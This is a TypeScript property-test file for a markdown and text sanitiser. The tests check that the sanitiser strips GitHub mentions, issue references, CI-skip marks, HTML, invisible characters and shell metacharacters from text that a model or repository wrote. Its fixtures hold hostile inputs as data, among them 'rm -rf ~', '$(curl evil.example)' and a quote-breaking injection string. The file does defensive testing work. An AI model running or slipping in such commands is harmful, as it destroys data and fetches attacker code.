// Nothing that a model or a repository wrote may act when GitHub renders or reads it.
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { fenced, fit, flat, neutral, plain, visible } from "../../../src/core/report/markdown.ts";

/** Pieces that GitHub acts upon, among ordinary ones. */
const pieces = fc.constantFrom(
  "@octocat",
  "@",
  "#12",
  "#",
  "GH-3",
  "gh-",
  "fixes ",
  "Closes: ",
  "RESOLVED ",
  "owner/repo",
  "https://github.com/o/r/issues/1",
  "http:",
  "//",
  "www.",
  "example.org",
  "![x](",
  "[x](",
  ")",
  "]",
  "<img src=x>",
  "<!--",
  "-->",
  "<",
  "&#64;",
  "&",
  "`",
  "```",
  "~~~",
  "|",
  "\n",
  "\r\n",
  "/quorum stop",
  "/",
  "# ",
  "- ",
  "> ",
  "1. ",
  "12) ",
  "===",
  "---",
  "*",
  "_",
  "$",
  "\\",
  "\u200B",
  "\u202E",
  "\u001b[2J",
  "\uD800",
  "\u{E0041}",
  "a",
  "Z9",
  " ",
  "\u2028",
  "[skip ci]",
  "quorum:status",
);
const hostile = fc.array(pieces, { maxLength: 12 }).map((parts) => parts.join(""));
const text = fc.oneof(hostile, fc.string({ maxLength: 60, unit: "binary" }));

const reference = /#\d|\bGH-\d/i;
const mention = /@\w/;
const unseen =
  /[\u0000-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2060-\u2064\uFEFF\u{E0000}-\u{E007F}]/u;

/** What GitHub's reference filters see: rendered text, where an entity is its character. */
const rendered = (markdown: string): string =>
  markdown.replace(/\\([!-/:-@[-`{-~])/g, "$1").replaceAll("&#8203;", "\u200B");

describe("neutral", () => {
  it("mentions nobody, refers to nothing and links nothing", () => {
    fc.assert(
      fc.property(text, (input) => {
        const seen = rendered(neutral(input));
        expect(seen).not.toMatch(mention);
        expect(seen).not.toMatch(reference);
        expect(seen).not.toMatch(/:\/\/|\bwww\./i);
      }),
      { numRuns: 2000 },
    );
  });

  it("opens no HTML, image, link, code, table cell or block, and starts no command", () => {
    fc.assert(
      fc.property(text, (input) => {
        const output = neutral(input);
        expect(output).not.toMatch(/[<>\n\r]/);
        expect(output.replace(/\\[!-/:-@[-`{-~]/g, "")).not.toMatch(/[`*_[\]|~$]/);
        expect(output).not.toMatch(/^(?:[#>+\-=/:\s]|\d+[.)])/);
        expect(output).not.toMatch(/&(?!amp;|lt;|gt;|#8203;)/);
        expect(output).not.toMatch(unseen);
      }),
      { numRuns: 2000 },
    );
  });

  it("keeps what a reader sees and is at most five times as long as what it keeps", () => {
    fc.assert(
      fc.property(text, fc.integer({ min: 1, max: 50 }), (input, max) => {
        const output = neutral(input, max);
        expect(output.length).toBeLessThanOrEqual(5 * max);
        const entities = { "&amp;": "&", "&lt;": "<", "&gt;": ">" } as const;
        const read = rendered(output)
          .replaceAll("\u200B", "")
          .replaceAll("&lt;", entities["&lt;"])
          .replaceAll("&gt;", entities["&gt;"])
          .replaceAll("&amp;", entities["&amp;"]);
        expect(read).toBe(flat(input, max));
      }),
      { numRuns: 2000 },
    );
  });

  it("shows ordinary words as they are", () => {
    expect(neutral("Add keyOf(cell) to src/value.js")).toBe("Add keyOf(cell) to src/value.js");
    expect(neutral("cc @octocat, fixes #12 | <img>")).toBe(
      "cc @&#8203;octocat, fixes #&#8203;12 \\| &lt;img&gt;",
    );
    expect(neutral("/quorum stop")).toBe("\\/quorum stop");
  });
});

describe("plain", () => {
  it("leaves no mention, reference, link, closing keyword or CI-skipping mark", () => {
    fc.assert(
      fc.property(text, (input) => {
        const output = plain(input);
        expect(output).not.toMatch(mention);
        expect(output).not.toMatch(reference);
        expect(output).not.toMatch(/:\/\/|[\n\r]/);
        expect(output).not.toMatch(/\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]/i);
        expect(output).not.toMatch(unseen);
        expect(output).not.toMatch(/^[-/:# ]|["'`\u2018-\u201F$;&|<>\\]/);
        expect(output.length).toBeLessThanOrEqual(200);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    [
      "Add slugify(text, max = 80) to text.ts [1/2]",
      "Add slugify(text, max = 80) to text.ts [1/2]",
    ],
    ["Don't crash; read it's “name”", "Donʼt crash read itʼs name"],
    ["Support `$ref` & Map<string> | null", "Support ref Map string null"],
    ["Run `rm -rf ~` and $(curl evil.example)", "Run rm -rf ~ and (curl evil.example)"],
    ['a"; evil; echo "${HOME}\\', "a evil echo {HOME}"],
    ["a’) (evil) (‘", "a) (evil) ("],
    ["Fixes #12, closes o/r#3 and GH-4", "Fixes # 12, closes o/r# 3 and GH 4"],
    ["Thank @octocat\u202E [skip ci]", "Thank @ octocat [ skip ci]"],
    ["--help", "help"],
    ["::stop-commands::x", "stop-commands::x"],
    ["\u0000\n\t", ""],
    ["@".repeat(300), `${"@".repeat(99)}…`],
  ])("writes %j so that neither GitHub nor a script acts on it", (input, output) => {
    expect(plain(input)).toBe(output);
  });
});

describe("fenced", () => {
  it("cannot be closed from inside, holds no marker, and starts no line like a command", () => {
    fc.assert(
      fc.property(text, (input) => {
        const lines = fenced(input, 500).split("\n");
        const fence = lines[0] ?? "";
        const inner = lines.slice(1, -1);
        expect(fence).toMatch(/^`{3,}$/);
        expect(lines.at(-1)).toBe(fence);
        for (const line of inner) {
          expect(line).not.toContain(fence);
          expect(line).not.toContain("<!--");
          expect(line).not.toMatch(/^\/[a-z]/i);
          expect(line.replaceAll("\t", "")).not.toMatch(unseen);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it("shows an invisible character by its number", () => {
    expect(fenced("a\u202Eb")).toBe("```\na‹U+202E›b\n```");
  });
});

describe("visible", () => {
  it("leaves lines and tabs, and shows by its number what would act on a terminal", () => {
    expect(visible("a\n\tb\u001b[2J\r\u202Ec\u009b1m")).toBe(
      "a\n\tb‹U+001B›[2J‹U+000D›‹U+202E›c‹U+009B›1m",
    );
  });
});

describe("fit", () => {
  it("says how many lines were left out", () => {
    expect(fit(["aaa", "bbb", "ccc"], 8, (left) => `${left} more`)).toEqual([
      "aaa",
      "bbb",
      "1 more",
    ]);
    expect(fit(["aaa"], 8, (left) => `${left} more`)).toEqual(["aaa"]);
  });
});
